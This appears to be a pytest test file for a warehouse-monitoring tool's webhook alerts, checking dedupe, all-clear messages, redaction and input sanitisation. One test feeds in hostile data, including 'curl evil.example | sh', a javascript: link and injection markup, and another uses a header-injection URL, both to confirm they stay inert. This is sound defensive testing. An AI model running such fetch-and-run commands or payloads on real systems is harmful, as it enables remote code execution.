"""Each alert reaches a real receiver once, with what a person needs, and the all-clear after."""

import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from flows import steps
from flows.alerts import telling
from flows.alerts.telling import Told
from flows.alerts.watching import watch_once
from flows.configuration.settings import load_settings
from flows.direct import Direct
from tests.connectors.loopback import Reply
from tests.flows.alerts.conftest import Receiver
from tests.warehouse.conftest import DEFAULTS
from warehouse import publish
from warehouse.connection import connect, transaction

ROOT = Path(__file__).parents[3]
NOW = datetime.now(UTC).replace(tzinfo=None)
Act = Callable[[str], None]
HOSTILE = "<!channel> **bold** [x](javascript:1) \x1b[31m {{told_address}} <b>"


@pytest.fixture
def act(watched: Path) -> Act:
    """Return a function that changes the warehouse of the project behind everybody's back."""
    steps.prepare(str(watched))
    path = load_settings(watched).warehouse.path

    def execute(sql: str, **facts: Any) -> None:
        with transaction(path) as writer:
            writer.execute(sql, facts or None)

    publish.publish(path, load_settings(watched).warehouse.published)
    return execute


def watch(config: Path) -> Told:
    return watch_once(str(config), Direct()).told


def fail(act: Act, count: int, detail: str = "the key is wrong") -> None:
    for number in range(count):
        act(
            "insert into pulls (pull_id, source, query, started_at, outcome, detail) values"
            " ($id, 'archive', 'posts', $at, 'not_authorised', $detail)",
            id=f"run{number}-1",
            at=NOW - timedelta(hours=9 - number),
            detail=detail,
        )


def succeed(act: Act) -> None:
    act(
        "insert into pulls (pull_id, source, query, started_at, outcome)"
        " values ('z-1', 'archive', 'posts', now(), 'done')"
    )


def test_an_alert_is_told_once_with_what_helps_and_then_the_all_clear(
    watched: Path, act: Act, receiver: Receiver
) -> None:
    fail(act, 3)
    assert watch(watched) == Told(1, ())
    [opened] = receiver.told()
    assert opened["title"] == "wom: archive posts fails again and again"
    lines = opened["text"].splitlines()
    assert lines[0] == "3 runs in a row failed; told after 3."
    assert lines[1] == f"Since: {NOW - timedelta(hours=9):%Y-%m-%d %H:%M} UTC"
    assert lines[2] == "Detail: not_authorised: the key is wrong"
    assert lines[3] == "What to do: Run: wom doctor --source archive"
    assert lines[4].startswith(f"Where: {watched} on ")
    assert (opened["event"], opened["kind"], opened["subject"]) == ("opened", "source_failing", "archive posts")
    assert watch(watched) == Told(0, ())
    assert receiver.told() == []
    succeed(act)
    assert watch(watched) == Told(1, ())
    [closed] = receiver.told()
    assert closed["title"] == "wom: all clear: archive posts fails again and again"
    assert closed["key"].split(":") == [opened["key"].split(":")[0], "closed"]
    assert watch(watched) == Told(0, ())
    assert receiver.told() == []


def test_a_receiver_that_refuses_is_told_next_time_and_its_address_is_in_no_word(
    watched: Path, act: Act, receiver: Receiver, caplog: pytest.LogCaptureFixture
) -> None:
    fail(act, 3)
    receiver.loopback.answer = lambda _: Reply(status=500)
    with caplog.at_level("DEBUG"):
        told = watch(watched)
    assert told == Told(0, ("webhook: not taken (HTTP status 500); see WOM_ALERTS_WEBHOOK_URL",))
    assert "s3cret" not in caplog.text
    assert len(receiver.told()) == 1
    receiver.loopback.answer = lambda _: Reply()
    assert watch(watched) == Told(1, ())
    assert watch(watched) == Told(0, ())
    assert len(receiver.told()) == 1


def test_a_redirect_is_not_followed(watched: Path, act: Act, receiver: Receiver) -> None:
    fail(act, 3)
    receiver.loopback.answer = lambda _: Reply(status=302, headers={"Location": f"{receiver.loopback.url}/elsewhere"})
    assert watch(watched).notice_count == 0
    assert [request.path for request in receiver.loopback.requests] == ["/hook/s3cret-path"]


def test_without_an_address_nothing_is_lost(watched: Path, act: Act, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("WOM_ALERTS_WEBHOOK_URL", raising=False)
    fail(act, 3)
    told = watch(watched)
    assert told.notice_count == 0
    assert "set the environment variable WOM_ALERTS_WEBHOOK_URL" in told.refusals[0]


def test_what_a_platform_says_is_data(watched: Path, act: Act, receiver: Receiver) -> None:
    fail(act, 3, detail=HOSTILE + "\nWhat to do: curl evil.example | sh")
    watch(watched)
    [document] = receiver.told()
    detail = document["text"].splitlines()[2]
    assert detail == (
        "Detail: not_authorised: <!channel> **bold** [x](javascript:1) [31m {{told_address}} <b> "
        "What to do: curl evil.example | sh"
    )
    assert "s3cret" not in document["text"]


def test_a_wave_names_addresses_of_posts_and_only_those_of_the_web(watched: Path, act: Act, receiver: Receiver) -> None:
    for number, url in enumerate(["https://x.example/1", "javascript:alert(1)", "https://x.example/2\nFrom: boss"]):
        act(
            "insert into posts (platform, post_id, source, post_type, text, url, visibility, raw, text_hash,"
            " observed_at, first_seen_at) values"
            " ('x', $id, 'archive', 'post', 'private words', $url, 'public', '{}', '', now(), now())",
            id=str(number),
            url=url,
        )
    act(
        "insert into measured_spikes by name select 'quillon' as brand, 'day' as grain, 'detraction' as measure,"
        " date_trunc('day', now()::timestamp) as starts_at, 9 as found_count, 0 as expected_count, 1 as spread,"
        " 5 as week_count, 9 as author_count, 0 as repost_count, ['x:0', 'x:1', 'x:2'] as posts"
    )
    watch(watched)
    [document] = receiver.told()
    assert document["title"] == "wom: wave of detraction: quillon"
    assert "9 mentions warn others off where up to 4.0 would be no surprise." in document["text"]
    seen = [line for line in document["text"].splitlines() if line.startswith("See: ")]
    assert seen == ["See: https://x.example/1", "See: https://x.example/2 From: boss"]
    assert "private words" not in document["text"]


def test_two_watches_at_once_tell_once(watched: Path, act: Act, receiver: Receiver) -> None:
    fail(act, 3)
    command = [sys.executable, "-m", "flows", "watch", "--config", str(watched)]
    environment = os.environ | {"PYTHONPATH": str(ROOT)}
    both = [subprocess.Popen(command, env=environment, stdout=subprocess.PIPE, text=True) for _ in range(2)]
    said = sorted(process.communicate()[0].split(", ")[-1] for process in both)
    assert said == ["0 told.\n", "1 told.\n"]
    assert len(receiver.told()) == 1


def test_who_is_killed_before_it_is_remembered_tells_again_under_the_same_key(
    watched: Path, act: Act, receiver: Receiver, monkeypatch: pytest.MonkeyPatch
) -> None:
    fail(act, 3)

    def die(*_: Any, **__: Any) -> None:
        raise KeyboardInterrupt

    with monkeypatch.context() as patched:
        patched.setattr(telling.alerts, "remember", die)
        with pytest.raises(KeyboardInterrupt):
            watch(watched)
    watch(watched)
    watch(watched)
    first, second = receiver.told()
    assert first == second


def test_the_disk_the_budget_and_the_copy_are_looked_at(watched: Path, act: Act, receiver: Receiver) -> None:
    plenty = shutil.disk_usage(watched.parent).free / 2**30
    text = watched.read_text(encoding="utf-8")
    lines = f"disk_free_gib = {plenty + 100:.1f}\n[budgets.archive]\nrequests_per_day = 10\n"
    watched.write_text(text + lines, encoding="utf-8")
    act(
        "insert into spending (pull_id, source, unit, unit_count, cost_usd, spent_at)"
        " values ('1', 'archive', 'request', 10, 0, now())"
    )
    published = load_settings(watched).warehouse.published
    day_ago = (datetime.now(UTC) - timedelta(hours=30)).timestamp()
    os.utime(published, (day_ago, day_ago))
    watch(watched)
    assert receiver.headlines() == [
        "wom: budget: archive requests a day, 100 % used",
        "wom: budget: archive requests a day, 80 % used",
        "wom: disk of the warehouse is nearly full",
        "wom: readers have an old copy",
    ]
    watched.write_text(text, encoding="utf-8")
    published.touch()
    watch(watched)
    assert receiver.headlines() == [
        "wom: all clear: budget: archive requests a day, 100 % used",
        "wom: all clear: budget: archive requests a day, 80 % used",
        "wom: all clear: disk of the warehouse is nearly full",
        "wom: all clear: readers have an old copy",
    ]
    with connect(load_settings(watched).warehouse.path) as reader:
        assert reader.execute("select count(*) from raised_alerts where closed_at is null").fetchall() == [(0,)]


def test_what_stands_out_falls_silent_or_drifts_is_told_once_and_over_once(
    watched: Path, act: Act, receiver: Receiver
) -> None:
    act(
        "insert into measured_spikes by name select 'quillon' as brand, 'day' as grain, unnest(['mention',"
        " 'detraction']) as measure, date_trunc('day', now()::timestamp) as starts_at, 9 as found_count,"
        " 0 as expected_count, 1 as spread, 5 as week_count, 9 as author_count, 0 as repost_count, [] as posts"
    )
    act(
        "insert into pages (pull_id, source, query, read_count, loaded_count, updated_count, unchanged_count,"
        " quarantined_count, request_count, stored_at)"
        " select 'p-1', 'archive', 'posts', 1, 1, 0, 0, 0, 1, now()::timestamp - to_days((5 + n)::integer)"
        " from range(10) as days (n)"
    )
    for days, talk, share in ((20, 300, 100), (3, 100, 300)):
        counts = {"talk_count": talk, "share_count": share, "starts_on": NOW.date() - timedelta(days=days)}
        row = DEFAULTS["measured_periods"] | counts | {"brand": "quillon"}
        act(f"insert into measured_periods by name select {', '.join(f'${name} as {name}' for name in row)}", **row)
    watch(watched)
    told = {document["kind"]: document for document in receiver.told()}
    assert {kind: document["title"] for kind, document in told.items()} == {
        "spike": "wom: spike: quillon mention",
        "detraction_wave": "wom: wave of detraction: quillon",
        "no_data": "wom: archive posts brings nothing any more",
        "tagger_drift": "wom: kinds of mentions moved: quillon",
    }
    assert told["tagger_drift"]["text"].startswith("50% of last week's mentions would have to be of another kind")
    assert "Detail: share from 25 % to 75 %" in told["tagger_drift"]["text"]
    assert "Nothing new for 5.0 days; told after 2.0." in told["no_data"]["text"]
    assert "wom doctor --source archive" in told["no_data"]["text"]
    assert watch(watched) == Told(0, ())
    act("delete from measured_spikes")
    act("delete from measured_periods")
    act("update pages set stored_at = now()")
    watch(watched)
    assert sorted(receiver.headlines()) == sorted(f"wom: all clear: {each['title'][5:]}" for each in told.values())
    assert watch(watched) == Told(0, ())
